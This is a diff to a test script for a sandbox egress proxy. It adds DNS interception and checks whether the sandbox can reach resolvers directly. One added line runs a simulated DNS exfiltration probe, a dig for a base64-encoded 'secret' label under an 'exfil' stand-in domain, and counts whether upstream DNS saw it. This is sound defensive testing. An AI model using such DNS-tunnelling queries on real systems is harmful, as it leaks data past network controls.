@@ -81,10 +81,19 @@ def main():
         print(POLICY)
         log = world.tmp / "flows.jsonl"
         proxy = world.spawn(world.host, [BUILD / "proxy" / "sluice-proxy", "--policy", policy,
-                                         "--listen", info["proxy_listen"], "--upstream-dns",
+                                         "--listen", info["proxy_listen"],
+                                         "--dns-listen", info["dns_listen"], "--upstream-dns",
                                          ADDR.DNS4, "--id", name, "--log", log],
                             name="sluice-proxy")
         wait_for(lambda: "serving with policy" in proxy.log(), 5.0, what="sluice-proxy")
+
+        say("== DNS: the sandbox asks anyone it likes; the proxy answers")
+        sandbox_run(world, name, ["dig", "+short", "www.example.test"])
+        sandbox_run(world, name, ["dig", "+short", "@9.9.9.9", "www.example.test"])
+        sandbox_run(world, name, ["dig", "+noall", "+comments", "c2VjcmV0.exfil.example.test",
+                                  "TXT"])
+        leaked = [q for q in world.dns_queries() if "exfil" in q["qname"]]
+        print(f"  upstream DNS saw {len(leaked)} queries for the exfil name")
 
         say("== allowed: TLS by SNI, plain HTTP by Host")
         curl(world, name, "https://www.example.test/")
